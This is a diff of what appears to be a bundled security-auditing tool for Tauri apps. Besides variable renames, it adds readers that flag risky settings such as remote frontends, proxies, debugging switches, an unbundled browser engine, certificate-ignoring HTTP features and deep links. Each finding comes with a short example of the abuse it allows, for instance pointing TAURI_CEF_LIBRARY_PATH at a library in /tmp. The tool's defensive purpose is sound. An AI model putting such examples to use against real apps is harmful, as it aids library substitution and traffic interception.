@@ -48903,13 +49429,13 @@ function capabilitiesIn(files, gaps2) {
       gaps2.push(gapAt(parsed4.at, "unparsed", `This capability file can't be read: ${parsed4.message}`));
       continue;
     }
-    const read2 = readCapabilityFile(parsed4.value);
-    for (const gap of read2.gaps) gaps2.push(gap);
+    const read3 = readCapabilityFile(parsed4.value);
+    for (const gap of read3.gaps) gaps2.push(gap);
     for (const { name, at } of parsed4.value.kind === "array" ? parsed4.duplicates : []) {
       const message = `The key ${code(name)} stands twice in one object of this list of capabilities: the app doesn't build.`;
       gaps2.push(gapAt(at, "does-not-build", message));
     }
-    for (const capability of read2.capabilities) {
+    for (const capability of read3.capabilities) {
       if (byIdentifier.size >= MOST_CAPABILITIES) {
         const message = `The app has more than ${MOST_CAPABILITIES} capabilities; this one and the rest were not read.`;
         gaps2.push(gapAt(capability.at, "truncated", message));
@@ -50260,12 +50786,12 @@ function knownVersions(key) {
   return rows;
 }
 function manifest(folded2) {
-  let known = manifestOf.get(folded2);
-  if (known === void 0) {
-    known = catalogued(unfolded(folded2));
-    manifestOf.set(folded2, known);
+  let known2 = manifestOf.get(folded2);
+  if (known2 === void 0) {
+    known2 = catalogued(unfolded(folded2));
+    manifestOf.set(folded2, known2);
   }
-  return known;
+  return known2;
 }
 function catalogued({ c, demand, def, p, s }) {
   const sets = new Map(Object.entries(s ?? {}));
@@ -50438,22 +50964,22 @@ function manifestsOf(project, script, facts) {
   const gaps2 = [...own.gaps, ...app.gaps];
   const inTree = /* @__PURE__ */ new Map();
   for (const [key, itsFiles] of pluginFiles(files, project)) {
-    const read2 = readPermissionFiles(itsFiles, [], lists);
-    for (const gap of read2.gaps) gaps2.push(gap);
-    inTree.set(key, read2.manifest);
+    const read3 = readPermissionFiles(itsFiles, [], lists);
+    for (const gap of read3.gaps) gaps2.push(gap);
+    inTree.set(key, read3.manifest);
   }
   for (const [name, { commands, default: given }] of script.plugins) {
-    const read2 = readPermissionFiles(own.inlined.get(name) ?? [], commands, lists);
-    for (const gap of read2.gaps) gaps2.push(gap);
-    inTree.set(name, { ...read2.manifest, default: read2.manifest.default ?? given });
+    const read3 = readPermissionFiles(own.inlined.get(name) ?? [], commands, lists);
+    for (const gap of read3.gaps) gaps2.push(gap);
+    inTree.set(name, { ...read3.manifest, default: read3.manifest.default ?? given });
   }
-  const known = /* @__PURE__ */ new Map([["", { how: "known", manifest: app.manifest }]]);
+  const known2 = /* @__PURE__ */ new Map([["", { how: "known", manifest: app.manifest }]]);
   return {
     of(key) {
-      const before = known.get(key);
+      const before = known2.get(key);
       if (before !== void 0) return before;
       const answer = find(key, project, inTree, facts);
-      known.set(key, answer);
+      known2.set(key, answer);
       return answer;
     },
     isKey: (key) => inTree.has(key) || isCatalogued(key) || project.locked(crateOf(key)) !== void 0,
@@ -50708,8 +51234,8 @@ function commandsOf2(names2, key, manifests) {
   return names2.flatMap((name) => {
     if (name !== "*") return [{ name, at: null }];
     if (!manifests.wildcards) return [];
-    const known = manifests.of(key);
-    const declared = known.how === "unknown" ? [] : known.manifest.commands;
+    const known2 = manifests.of(key);
+    const declared = known2.how === "unknown" ? [] : known2.manifest.commands;
     if (declared.length === 0) return [{ name, at: null }];
     return declared.map((command2) => ({
       name: command2.name,
@@ -50762,8 +51288,8 @@ function leavesOf(entry, manifests, gaps2) {
     }
     const [key, id] = split2(reference, home, manifests);
     const path = `${key}:${id}`;
-    const known = manifests.of(key);
-    if (known.how === "unknown") {
+    const known2 = manifests.of(key);
+    if (known2.how === "unknown") {
       sayUnknown(
         manifests.release(key),
         `What ${code(reference)} allows is not known: the permissions of the plugin ${code(key)} are neither in this repository nor among those that are known. Its name was taken at its word.`
@@ -50771,11 +51297,11 @@ function leavesOf(entry, manifests, gaps2) {
       leaves.push({ key, id, permission: inferredPermission(id), inferred: true, steps });
       return;
     }
-    const { manifest: manifest2 } = known;
-    if (known.how === "assumed") {
-      if (known.instead === "release" || known.instead === "newest")
-        say2("assumed-version", assumption(crateOf(key), known), false);
-      else sayUnknown(manifests.release(key), assumption(crateOf(key), known));
+    const { manifest: manifest2 } = known2;
+    if (known2.how === "assumed") {
+      if (known2.instead === "release" || known2.instead === "newest")
+        say2("assumed-version", assumption(crateOf(key), known2), false);
+      else sayUnknown(manifests.release(key), assumption(crateOf(key), known2));
     }
     if (key === "" && id === "default" && !manifests.appHasManifest) {
       refuse(reference, "is not declared by the app");
@@ -50798,13 +51324,13 @@ function leavesOf(entry, manifests, gaps2) {
       return;
     }
     const permission2 = manifest2.permission(id) ?? wildcard(key, id, manifest2);
-    const generated = known.how === "in-tree" && /^(?:allow|deny)-./.test(id);
+    const generated = known2.how === "in-tree" && /^(?:allow|deny)-./.test(id);
     if (permission2 !== void 0) leaves.push({ key, id, permission: permission2, inferred: false, steps });
     else if (generated) leaves.push({ key, id, permission: inferredPermission(id), inferred: false, steps });
-    else if (known.how === "assumed") {
+    else if (known2.how === "assumed") {
       say2(
         "unknown-permission",
-        `${code(reference)} is no permission of ${code(key)} ${known.from}; whether ${known.version} has it is not known. Its name was taken at its word.`
+        `${code(reference)} is no permission of ${code(key)} ${known2.from}; whether ${known2.version} has it is not known. Its name was taken at its word.`
       );
       leaves.push({ key, id, permission: inferredPermission(id), inferred: true, steps });
     } else
@@ -51024,9 +51550,9 @@ function readAllowlist(config) {
   const root = pick(config, "tauri", "allowlist");
   const gaps2 = [];
   const values = /* @__PURE__ */ new Map();
-  const note2 = (name, known, { key, value }) => {
-    if (known && isRightFor(name, value)) values.set(name, value);
-    else gaps2.push(gapAt(key, "does-not-build", refusal(name, known)));
+  const note2 = (name, known2, { key, value }) => {
+    if (known2 && isRightFor(name, value)) values.set(name, value);
+    else gaps2.push(gapAt(key, "does-not-build", refusal(name, known2)));
   };
   for (const [name, member2] of membersOf2(root)) {
     const group2 = GROUPS.get(name);
@@ -51059,8 +51585,8 @@ function membersOf2(value) {
   return [...value.entries].map(([name, member2]) => [camelCase(name), member2]);
 }
 function camelCase(name) {
-  const joined4 = name.replace(/-([a-z])/g, (_, letter) => letter.toUpperCase());
-  return joined4 === "relaunchDangerousAllowSymlinkMacOS" ? "relaunchDangerousAllowSymlinkMacos" : joined4;
+  const joined5 = name.replace(/-([a-z])/g, (_, letter) => letter.toUpperCase());
+  return joined5 === "relaunchDangerousAllowSymlinkMacOS" ? "relaunchDangerousAllowSymlinkMacos" : joined5;
 }
 function isRightFor(name, { kind }) {
   if (name.endsWith(".scope") || name.endsWith("Scope")) {
@@ -51068,8 +51594,8 @@ function isRightFor(name, { kind }) {
   }
   return kind === "boolean" || kind === "string" && name === "shell.open";
 }
-function refusal(name, known) {
-  const what2 = known ? "has a value of the wrong type" : "is no option that Tauri 1 knows";
+function refusal(name, known2) {
+  const what2 = known2 ? "has a value of the wrong type" : "is no option that Tauri 1 knows";
   return `${code(name)} in the allowlist ${what2}: the app doesn't build. It was read as granting nothing.`;
 }
 
@@ -51096,13 +51622,13 @@ function remoteAccess(config) {
   const sites = entries.flatMap((entry, i) => {
     const earlier = entries.slice(0, i).filter(({ domain }) => domain === entry.domain);
     const taken2 = windowsOf(earlier.filter(({ scheme }) => scheme === null || scheme === entry.scheme));
-    const windows2 = entry.windows.filter(({ text }) => !taken2.has(text));
+    const windows3 = entry.windows.filter(({ text }) => !taken2.has(text));
     const partly = windowsOf(earlier.filter(({ scheme }) => entry.scheme === null && scheme !== null));
-    if (windows2.some(({ text }) => partly.has(text))) {
+    if (windows3.some(({ text }) => partly.has(text))) {
       const message = `${code(entry.domain)} has an entry for one scheme before this one for all, which then decides for the others only. It was read as deciding for all.`;
       gaps2.push(gapAt(entry.url.at, "unsupported", message));
     }
-    return windows2.length === 0 ? [] : [{ ...entry, windows: windows2 }];
+    return windows3.length === 0 ? [] : [{ ...entry, windows: windows3 }];
   });
   return { sites, gaps: gaps2 };
 }
@@ -51128,7 +51654,7 @@ function entryOf(item) {
   ];
 }
 function windowsOf(entries) {
-  return new Set(entries.flatMap(({ windows: windows2 }) => windows2.map(({ text }) => text)));
+  return new Set(entries.flatMap(({ windows: windows3 }) => windows3.map(({ text }) => text)));
 }
 
 // src/readers/tauri-allowlist/scopes.ts
@@ -51247,9 +51773,9 @@ function readPlatform2(project, platform2) {
       ...pluginCrates(project).map(
         ({ name, crate, at }) => allow(everyWindow, pluginCommands2(name, crate, at))
       ),
-      ...remote.sites.flatMap(({ url, windows: windows2, plugins, api: opened }) => {
+      ...remote.sites.flatMap(({ url, windows: windows3, plugins, api: opened }) => {
         const pages = (at) => ({
-          windows: windows2,
+          windows: windows3,
           context: { kind: "remote", url: { text: url.text, at } }
         });
         return [
@@ -51296,12 +51822,12 @@ function appCommands(at) {
 function pluginCommands2(name, permission2, at) {
   return { command: `plugin:${name}|*`, permission: permission2, at, matching: { kind: "none" } };
 }
-function allow({ windows: windows2, context: context3 }, { command: command2, permission: permission2, at, matching }) {
+function allow({ windows: windows3, context: context3 }, { command: command2, permission: permission2, at, matching }) {
   return {
     domain: "ipc",
     effect: "allow",
     platforms: NO_PLATFORM,
-    windows: windows2,
+    windows: windows3,
     webviews: [],
     context: context3,
     plugin: /^plugin:([^|]+)/.exec(command2)?.[1] ?? "",
@@ -51317,6 +51843,572 @@ function allow({ windows: windows2, context: context3 }, { command: command2, pe
     steps: [],
     platformsAt: null,
     inferred: false
+  };
+}
+
+// src/readers/tauri-config/lever-reader.ts
+function appSection({ major }) {
+  return major === 1 ? "tauri" : "app";
+}
+function nearestTo(config, ...names2) {
+  let nearest2 = config;
+  for (const name of names2) {
+    const next = configKey(nearest2, name);
+    if (next === void 0) break;
+    nearest2 = next;
+  }
+  return nearest2;
+}
+function short(text, longest = 160) {
+  const shown2 = visible(text.slice(0, longest));
+  return text.length > longest ? `${shown2}…` : shown2;
+}
+
+// src/readers/tauri-config/remote-url.ts
+function asUrl(text) {
+  if (!URL.canParse(text)) return void 0;
+  const url = new URL(text);
+  return /^[a-z]:$/.test(url.protocol) ? void 0 : url;
+}
+function originOf2(url) {
+  return url.host === "" ? url.protocol : `${url.protocol}//${url.host}`;
+}
+
+// src/readers/tauri-config/frontend.ts
+var remoteFrontend = (project, platform2) => {
+  const url = frontendUrl(project, platform2);
+  if (url === void 0) return [];
+  const key = keyOf3(project);
+  const origin = originOf2(url);
+  return [
+    {
+      lever: "remote-frontend",
+      extent: origin,
+      subject: `Pages of ${code(origin)}`,
+      action: "be the app, with everything that is granted to its own pages",
+      example: `GET ${short(url.href)}`,
+      setting: `build.${key}: "${short(url.href)}"`,
+      at: nearestTo(project.config(platform2), "build", key).at
+    }
+  ];
+};
+function frontendUrl(project, platform2) {
+  const build = member(project.config(platform2), "build");
+  const text = asString(configKey(build, keyOf3(project)));
+  return text === void 0 ? void 0 : asUrl(text);
+}
+function keyOf3({ major }) {
+  return major === 1 ? "distDir" : "frontendDist";
+}
+
+// src/readers/tauri-config/windows.ts
+function windowsOf2(project, platform2) {
+  const section2 = appSection(project);
+  const windows3 = itemsOf(member(member(project.config(platform2), section2), "windows"));
+  return windows3.map((value, index) => ({
+    value,
+    label: asString(member(value, "label")) ?? "main",
+    setting: `${section2}.windows[${index}]`
+  }));
+}
+var windows = (project, platform2) => {
+  const frontend = frontendUrl(project, platform2);
+  return windowsOf2(project, platform2).flatMap((window2) => [
+    added(window2),
+    ...remotePage(window2, frontend),
+    ...proxy(window2, platform2),
+    ...platform2 === "windows" ? extensions(window2) : []
+  ]);
+};
+function added({ value, label, setting }) {
+  return {
+    lever: "window-added",
+    extent: label,
+    subject: `A window ${code(label)}`,
+    action: "open with whatever capabilities grant to that name",
+    example: `getCurrentWindow().label === ${JSON.stringify(short(label))}`,
+    setting: `${setting}.label: ${JSON.stringify(short(label))}`,
+    comesWith: "app",
+    at: (member(value, "label") ?? value).at
+  };
+}
+function remotePage({ value, label, setting }, frontend) {
+  const written3 = member(value, "url");
+  const url = asUrl(asString(written3) ?? "");
+  if (url === void 0 || written3 === void 0) return [];
+  const origin = originOf2(url);
+  if (frontend !== void 0 && originOf2(frontend) === origin) return [];
+  return [
+    {
+      lever: "remote-window",
+      extent: `${label} ${origin}`,
+      subject: `Pages of ${code(origin)}`,
+      action: `open in the app's window ${code(label)}`,
+      example: `GET ${short(url.href)}`,
+      setting: `${setting}.url: ${JSON.stringify(short(url.href))}`,
+      at: written3.at
+    }
+  ];
+}
+function proxy({ value, label, setting }, platform2) {
+  const written3 = configKey(value, "proxyUrl");
+  const text = asString(written3);
+  if (text === void 0 || written3 === void 0) return [];
+  if (platform2 === "windows" && asString(configKey(value, "additionalBrowserArgs")) !== void 0) return [];
+  const url = asUrl(text);
+  const origin = url === void 0 ? text : originOf2(url);
+  return [
+    {
+      lever: "traffic-proxied",
+      extent: `${label} ${origin}`,
+      subject: `A proxy at ${code(origin)}`,
+      action: `carry what window ${code(label)} loads and sends`,
+      example: `CONNECT example.com:443 via ${short(origin)}`,
+      setting: `${setting}.proxyUrl: ${JSON.stringify(short(text))}`,
+      at: written3.at
+    }
+  ];
+}
+function extensions({ value, label, setting }) {
+  const written3 = configKey(value, "browserExtensionsEnabled");
+  if (written3 === void 0 || asBoolean(written3) !== true) return [];
+  return [
+    {
+      lever: "browser-extensions-allowed",
+      extent: label,
+      subject: "Browser extensions",
+      action: `run in the pages of window ${code(label)}`,
+      example: "chrome.scripting.executeScript({ target: { tabId }, func: () => … })",
+      setting: `${setting}.browserExtensionsEnabled: true`,
+      at: written3.at
+    }
+  ];
+}
+
+// src/readers/tauri-config/browser-switches.ts
+var OFF_BY_DEFAULT = /* @__PURE__ */ new Set(["msWebOOUI", "msPdfOOUI", "msSmartScreenProtection"]);
+var WITHOUT_VALUE = /* @__PURE__ */ new Set(["--remote-debugging-port"]);
+var LISTS2 = /* @__PURE__ */ new Set([
+  "--disable-features",
+  "--enable-features",
+  "--disable-blink-features",
+  "--enable-blink-features"
+]);
+var browserSwitches = (project, platform2) => {
+  if (platform2 !== "windows") return [];
+  return windowsOf2(project, platform2).flatMap(({ value, setting }) => {
+    const written3 = configKey(value, "additionalBrowserArgs");
+    const text = asString(written3);
+    if (written3 === void 0 || text === void 0) return [];
+    return switchesIn(text).map(
+      (each) => ({
+        lever: "browser-switch-added",
+        extent: each,
+        subject: "The browser in the app",
+        action: `run with ${code(each)}`,
+        example: `msedgewebview2.exe ${short(each)}`,
+        setting: `${setting}.additionalBrowserArgs: ${JSON.stringify(short(text))}`,
+        at: written3.at
+      })
+    );
+  });
+};
+function switchesIn(text) {
+  return (text.match(/(?:"[^"]*"|[^\s"])+/g) ?? []).flatMap((written3) => {
+    const [, name = "", value] = /^(?:--|-|\/)([^=]*)(?:=([\s\S]*))?$/.exec(written3.replaceAll('"', "")) ?? [];
+    if (name === "") return [];
+    const key = `--${name.toLowerCase()}`;
+    if (value === void 0 || WITHOUT_VALUE.has(key)) return [key];
+    if (!LISTS2.has(key)) return [`${key}=${value}`];
+    const entries = value.split(",").filter((entry) => entry !== "");
+    return entries.filter((entry) => key !== "--disable-features" || !OFF_BY_DEFAULT.has(entry)).map((entry) => `${key}=${entry}`);
+  });
+}
+
+// src/readers/tauri-config/bundle.ts
+var sidecars = (project, platform2) => {
+  const config = project.config(platform2);
+  const path = project.major === 1 ? ["tauri", "bundle"] : ["bundle"];
+  return stringsOf(configKey(pick(config, ...path), "externalBin")).map(({ value, at }) => {
+    const program = placeOf(value, project.location.root);
+    return {
+      lever: "sidecar-added",
+      extent: program,
+      subject: "The app",
+      action: `ship and start the program ${code(program)}`,
+      example: `Command.sidecar(${JSON.stringify(short(value))})`,
+      setting: `${path.join(".")}.externalBin: [${JSON.stringify(short(value))}]`,
+      at
+    };
+  });
+};
+function placeOf(program, root) {
+  const parts = program.replaceAll("\\", "/").split("/").filter((part) => part !== "" && part !== ".");
+  const up = parts.findIndex((part) => part !== "..");
+  const folders = root === "" ? [] : root.split("/");
+  if (program.startsWith("/")) return program;
+  if (up <= 0 || up > folders.length) return parts.join("/");
+  return `/${[...folders.slice(0, folders.length - up), ...parts.slice(up)].join("/")}`;
+}
+var chromiumLibrary = (project, platform2) => {
+  const embed = pick(member(project.config(platform2), "bundle"), "cef", "embed");
+  if (embed === void 0 || asBoolean(embed) !== false) return [];
+  return [
+    {
+      lever: "engine-not-bundled",
+      extent: "",
+      subject: "Whoever sets the app's environment or writes the library that it names",
+      action: "put in the browser engine that the app loads",
+      example: "TAURI_CEF_LIBRARY_PATH=/tmp/libcef.so notes",
+      setting: "bundle.cef.embed: false",
+      at: embed.at
+    }
+  ];
+};
+
+// src/readers/tauri-config/cargo-cfg.ts
+var OS = {
+  linux: "linux",
+  macOS: "macos",
+  windows: "windows",
+  android: "android",
+  iOS: "ios"
+};
+var TRIPLES = [
+  [/android/, "android"],
+  [/-ios/, "iOS"],
+  [/-darwin|-macos/, "macOS"],
+  [/-windows/, "windows"],
+  [/-linux/, "linux"]
+];
+var DEEPEST2 = 32;
+function mayHold(target, platform2) {
+  const condition = /^\s*cfg\s*\(([\s\S]*)\)\s*$/.exec(target)?.[1];
+  if (condition === void 0) {
+    const named2 = TRIPLES.find(([pattern]) => pattern.test(target))?.[1];
+    return named2 === void 0 || named2 === platform2;
+  }
+  return new Condition(condition, platform2).read() !== false;
+}
+var Condition = class {
+  #tokens;
+  #platform;
+  #at = 0;
+  constructor(text, platform2) {
+    this.#tokens = text.match(/[A-Za-z_][A-Za-z0-9_]*|"[^"]*"|[(),=]/g) ?? [];
+    this.#platform = platform2;
+  }
+  read(depth = 0) {
+    const name = this.#next();
+    if (this.#takes("=")) return this.#hasValue(name, this.#next().replaceAll('"', ""));
+    if (!this.#takes("(")) return this.#isSet(name);
+    const parts = [];
+    while (depth < DEEPEST2 && this.#at < this.#tokens.length && !this.#takes(")")) {
+      parts.push(this.read(depth + 1));
+      this.#takes(",");
+    }
+    return joined2(name, parts);
+  }
+  #next() {
+    const token = this.#tokens[this.#at] ?? "";
+    this.#at += 1;
+    return token;
+  }
+  #takes(token) {
+    if (this.#tokens[this.#at] !== token) return false;
+    this.#at += 1;
+    return true;
+  }
+  #hasValue(name, value) {
+    if (name === "target_os") return value === OS[this.#platform];
+    if (name === "target_family") return value === (this.#platform === "windows" ? "windows" : "unix");
+    if (name === "target_vendor" && value === "apple")
+      return this.#platform === "macOS" || this.#platform === "iOS";
+    return void 0;
+  }
+  #isSet(name) {
+    if (name === "windows") return this.#platform === "windows";
+    if (name === "unix") return this.#platform !== "windows";
+    return void 0;
+  }
+};
+function joined2(name, parts) {
+  if (name === "not") return parts[0] === void 0 ? void 0 : !parts[0];
+  if (name === "all") return parts.includes(false) ? false : parts.includes(void 0) ? void 0 : true;
+  if (name === "any") return parts.includes(true) ? true : parts.includes(void 0) ? void 0 : false;
+  return void 0;
+}
+
+// src/readers/tauri-config/dependencies.ts
+function dependenciesOn(project, crate, platform2) {
+  const ofProject = read.get(project) ?? /* @__PURE__ */ new Map();
+  read.set(project, ofProject);
+  const known2 = ofProject.get(platform2) ?? Map.groupBy(allOn(project, platform2), (each) => each.crate);
+  ofProject.set(platform2, known2);
+  return known2.get(crate) ?? [];
+}
+var read = /* @__PURE__ */ new WeakMap();
+function allOn(project, platform2) {
+  const tables = [member(project.manifest, "dependencies")];
+  const targets = member(project.manifest, "target");
+  if (targets?.kind === "object") {
+    for (const [target, { value }] of targets.entries)
+      if (mayHold(target, platform2)) tables.push(member(value, "dependencies"));
+  }
+  return tables.flatMap((table4) => {
+    if (table4?.kind !== "object") return [];
+    return [...table4.entries].map(([name, { value }]) => {
+      const isInherited = member(value, "workspace") !== void 0;
+      const shared = isInherited ? sharedDependency(project, name) : void 0;
+      const crate = asString(member(value, "package")) ?? asString(member(shared, "package")) ?? name;
+      return { name, crate, value, shared };
+    });
+  });
+}
+function dependsOn(project, crate, platform2) {
+  if (dependenciesOn(project, crate, platform2).length > 0) return true;
+  return !isNamedAnywhere(project, crate) && lockedBelow(project).has(crate);
+}
+function dependencyLine(project, crate, platform2) {
+  return dependenciesOn(project, crate, platform2)[0]?.value;
+}
+function isNamedAnywhere(project, crate) {
+  return PLATFORMS.some((platform2) => dependenciesOn(project, crate, platform2).length > 0);
+}
+function sharedDependency({ location: location2, files }, name) {
+  for (const folder of withAncestors(location2.root)) {
+    const file2 = files.get(inFolder(folder, "Cargo.toml"));
+    const parsed4 = file2 && parseFile(file2);
+    const found2 = parsed4?.ok ? pick(parsed4.value, "workspace", "dependencies", name) : void 0;
+    if (found2 !== void 0) return found2;
+  }
+  return void 0;
+}
+var below3 = /* @__PURE__ */ new WeakMap();
+function lockedBelow(project) {
+  const known2 = below3.get(project);
+  if (known2 !== void 0) return known2;
+  const file2 = governingLock(project.location.root, project.files);
+  const lock = file2 && readCargoLock(file2);
+  const name = asString(pick(project.manifest, "package", "name"));
+  const app = lock?.byName.get(name ?? "")?.find(({ source }) => source === "path");
+  const found2 = /* @__PURE__ */ new Set();
+  const seen = /* @__PURE__ */ new Set();
+  const todo = app === void 0 ? [...lock?.packages ?? []] : [app];
+  for (let next = todo.pop(); next !== void 0; next = todo.pop()) {
+    if (seen.has(next)) continue;
+    seen.add(next);
+    found2.add(next.name);
+    for (const { target } of next.dependencies) if (target !== void 0) todo.push(target);
+  }
+  below3.set(project, found2);
+  return found2;
+}
+
+// src/readers/tauri-config/enabled-features.ts
+var DEFAULTS2 = /* @__PURE__ */ new Map([["tauri-plugin-http", ["cookies"]]]);
+function featuresOf(project, crate, platform2) {
+  const dependencies = dependenciesOn(project, crate, platform2);
+  const found2 = /* @__PURE__ */ new Map();
+  for (const { value, shared } of dependencies) {
+    for (const item of [...stringsOf(member(value, "features")), ...stringsOf(member(shared, "features"))])
+      found2.set(item.value, item.at);
+  }
+  if (dependencies.some(keepsDefaults)) {
+    const [first] = dependencies;
+    for (const name of DEFAULTS2.get(crate) ?? [])
+      if (first && !found2.has(name)) found2.set(name, first.value.at);
+  }
+  const names2 = new Set(dependencies.map(({ name }) => name));
+  for (const { value, at } of ownFeatures(project, platform2)) {
+    const [, dependency = "", feature = ""] = /^([^/?]+)\??\/(.+)$/.exec(value) ?? [];
+    if (names2.has(dependency) && !found2.has(feature)) found2.set(feature, at);
+  }
+  return found2;
+}
+function keepsDefaults({ value, shared }) {
+  const own = asBoolean(member(value, "default-features") ?? member(value, "default_features"));
+  const inherited = asBoolean(member(shared, "default-features") ?? member(shared, "default_features"));
+  return shared === void 0 ? own !== false : own === true || inherited !== false;
+}
+function ownFeatures(project, platform2) {
+  const table4 = member(project.manifest, "features");
+  const found2 = [];
+  const seen = /* @__PURE__ */ new Set();
+  const todo = [
+    ...stringsOf(member(table4, "default")),
+    ...stringsOf(pick(project.config(platform2), "build", "features"))
+  ];
+  for (let next = todo.pop(); next !== void 0; next = todo.pop()) {
+    found2.push(next);
+    if (seen.has(next.value)) continue;
+    seen.add(next.value);
+    todo.push(...stringsOf(member(table4, next.value)));
+  }
+  return found2;
+}
+
+// src/readers/tauri-config/cargo-features.ts
+var FEATURES = [
+  {
+    crate: "tauri",
+    names: ["unstable"],
+    subject: "Code of the app",
+    action: "show several webviews, with the same permissions, in one window",
+    example: "new Webview(getCurrentWindow(), 'side', { url: 'https://example.com' })"
+  },
+  {
+    crate: "tauri",
+    names: ["webview-data-url", "window-data-url"],
+    subject: "Windows of the app",
+    action: "show pages that are nothing but a `data:` URL",
+    example: "data:text/html,<script>…</script>"
+  },
+  {
+    crate: "tauri-plugin-http",
+    names: ["dangerous-settings"],
+    subject: "Pages with permissions of the http plugin",
+    action: "send requests that accept any certificate",
+    example: "fetch('https://example.com', { danger: { acceptInvalidCerts: true } })"
+  },
+  {
+    crate: "tauri-plugin-http",
+    names: ["unsafe-headers"],
+    subject: "Pages with permissions of the http plugin",
+    action: "send headers that browsers keep for themselves, such as `Origin` and `Cookie`",
+    example: "fetch('https://example.com', { headers: { Origin: 'https://example.com' } })"
+  },
+  {
+    crate: "tauri-plugin-http",
+    names: ["cookies"],
+    subject: "Pages with permissions of the http plugin",
+    action: "use cookies that earlier requests were given",
+    example: "fetch('https://example.com/account')",
+    comesWith: "http plugin"
+  },
+  {
+    crate: "tauri-plugin-fs",
+    names: ["watch"],
+    subject: "Pages with permissions of the fs plugin",
+    action: "be told of changes to files in their scope",
+    example: "watch('/home/user/notes', (event) => …)"
+  }
+];
+var cargoFeatures = (project, platform2) => FEATURES.flatMap(({ crate, names: names2, ...rest }) => {
+  const features = featuresOf(project, crate, platform2);
+  const name = names2.find((each) => features.has(each));
+  const at = name === void 0 ? void 0 : features.get(name);
+  if (name === void 0 || at === void 0) return [];
+  const setting = `${crate} = { features = ["${name}"] }`;
+  return [{ lever: "cargo-feature-added", extent: `${crate}/${names2[0]}`, setting, at, ...rest }];
+});
+var devtools = (project, platform2) => {
+  const at = featuresOf(project, "tauri", platform2).get("devtools");
+  if (at === void 0) return [];
+  const inspector = {
+    lever: "devtools-in-release",
+    example: "document.title = 'from the console'",
+    setting: 'tauri = { features = ["devtools"] }',
+    at
+  };
+  const all = windowsOf2(project, platform2);
+  const open2 = all.filter(({ value }) => asBoolean(member(value, "devtools")) !== false);
+  const who = "Whoever sits at the machine";
+  if (open2.length === all.length) {
+    return [
+      {
+        ...inspector,
+        extent: "",
+        isWhole: true,
+        subject: who,
+        action: "open the inspector in a release of the app"
+      }
+    ];
+  }
+  return open2.map(({ label, setting, value }) => {
+    const written3 = member(value, "devtools");
+    return {
+      ...inspector,
+      extent: label,
+      subject: who,
+      action: `open the inspector in window ${code(label)} of a release`,
+      ...written3 !== void 0 && { setting: `${setting}.devtools: true`, at: written3.at }
+    };
+  });
+};
+
+// src/readers/tauri-config/crates.ts
+var CRATES = [
+  {
+    name: "tauri-plugin-persisted-scope",
+    lever: "scopes-persisted",
+    subject: "Every page with permissions of the fs plugin or the asset protocol",
+    action: "reach a file again after a restart, once a person has picked or dropped it",
+    example: "readTextFile('/home/user/picked-last-year.txt')"
+  },
+  {
+    name: "tauri-plugin-localhost",
+    lever: "served-on-localhost",
+    subject: "Every program and user of the machine",
+    action: "load the app's pages over HTTP",
+    example: "curl http://localhost:9527/"
+  },
+  {
+    name: "tauri-runtime-cef",
+    lever: "engine-replaced",
+    subject: "A Chromium that is part of the app",
+    action: "show the app's pages, in place of the system's webview",
+    example: "cargo tree --invert cef-dll-sys"
+  }
+];
+var crates = (project, platform2) => CRATES.flatMap(({ name, ...crate }) => {
+  if (!dependsOn(project, name, platform2)) return [];
+  return [
+    { ...crate, extent: "", setting: settingOf(project, name), at: placeOf2(project, name, platform2) }
+  ];
+});
+function settingOf(project, name) {
+  const version = project.locked(name)?.version;
+  return version === void 0 ? name : `${name} ${version}`;
+}
+function placeOf2(project, name, platform2) {
+  const line = dependencyLine(project, name, platform2)?.at ?? project.locked(name)?.at;
+  return line ?? topOf(project.location.config);
+}
+
+// src/readers/tauri-config/deep-links.ts
+var MOBILE = /* @__PURE__ */ new Set(["android", "iOS"]);
+var deepLinks = (project, platform2) => {
+  const plugin = pick(project.config(platform2), "plugins", "deep-link");
+  return MOBILE.has(platform2) ? mobileLinks(plugin) : desktopLinks(plugin);
+};
+function desktopLinks(plugin) {
+  const desktop = member(plugin, "desktop");
+  const tables = desktop?.kind === "array" ? desktop.items : desktop === void 0 ? [] : [desktop];
+  const schemes2 = tables.flatMap((table4) => stringsOf(member(table4, "schemes")));
+  return schemes2.map(({ value, at }) => link(value, "desktop.schemes", at));
+}
+function mobileLinks(plugin) {
+  return itemsOf(member(plugin, "mobile")).flatMap((domain) => {
+    const host = asString(member(domain, "host"));
+    const schemes2 = stringsOf(member(domain, "scheme"));
+    const written3 = schemes2.length === 0 ? [{ value: "https", at: domain.at }] : schemes2;
+    return written3.map(({ value, at }) => {
+      const scheme = value === "http" ? "https" : value;
+      return link(host === void 0 ? scheme : `${scheme}://${host}`, "mobile", at);
+    });
+  });
+}
+function link(extent, key, at) {
+  const begins = extent.includes("://") ? `${extent}/` : `${extent}://`;
+  return {
+    lever: "link-scheme-claimed",
+    extent,
+    subject: "Any website",
+    action: `open the app with a link that begins with ${code(begins)}`,
+    example: `location.href = '${short(begins)}anything'`,
+    setting: `plugins.deep-link.${key}: [${JSON.stringify(short(extent))}]`,
+    at
   };
 }
 
@@ -51338,24 +52430,609 @@ var globalApi = (project, platform2) => {
   ];
 };
 
+// src/readers/tauri-config/header-openness.ts
+function guardedBy(values) {
+  const guards = new Map(Object.entries(values));
+  return (value) => {
+    const left = guards.get((value ?? "").toLowerCase().split(";")[0]?.trim() ?? "");
+    if (left === void 0) return "all";
+    return left === "" ? [] : [{ text: left, isWhole: false, inWords: left }];
+  };
+}
+var whatIsListed = (value) => {
+  const entries = (value ?? "").toLowerCase().split(",").map((entry) => entry.trim());
+  if (entries.includes("*")) return "all";
+  return entries.filter((entry) => entry !== "").map((text) => ({ text, isWhole: false }));
+};
+var whatIsTrue = (value) => value?.toLowerCase() === "true" ? "all" : [];
+var whatIsBelow = (value) => {
+  if (value === void 0) return [];
+  const folders = value.split("/").filter((folder) => folder !== "");
+  return folders.length === 0 ? "all" : [{ text: folders.join(": "), isWhole: true }];
+};
+var FEATURES2 = [
+  "accelerometer",
+  "ambient-light-sensor",
+  "autoplay",
+  "bluetooth",
+  "camera",
+  "clipboard-read",
+  "clipboard-write",
+  "display-capture",
+  "encrypted-media",
+  "fullscreen",
+  "gamepad",
+  "geolocation",
+  "gyroscope",
+  "hid",
+  "identity-credentials-get",
+  "idle-detection",
+  "keyboard-map",
+  "local-fonts",
+  "local-network-access",
+  "magnetometer",
+  "microphone",
+  "midi",
+  "payment",
+  "picture-in-picture",
+  "publickey-credentials-create",
+  "publickey-credentials-get",
+  "screen-wake-lock",
+  "serial",
+  "speaker-selection",
+  "storage-access",
+  "usb",
+  "web-share",
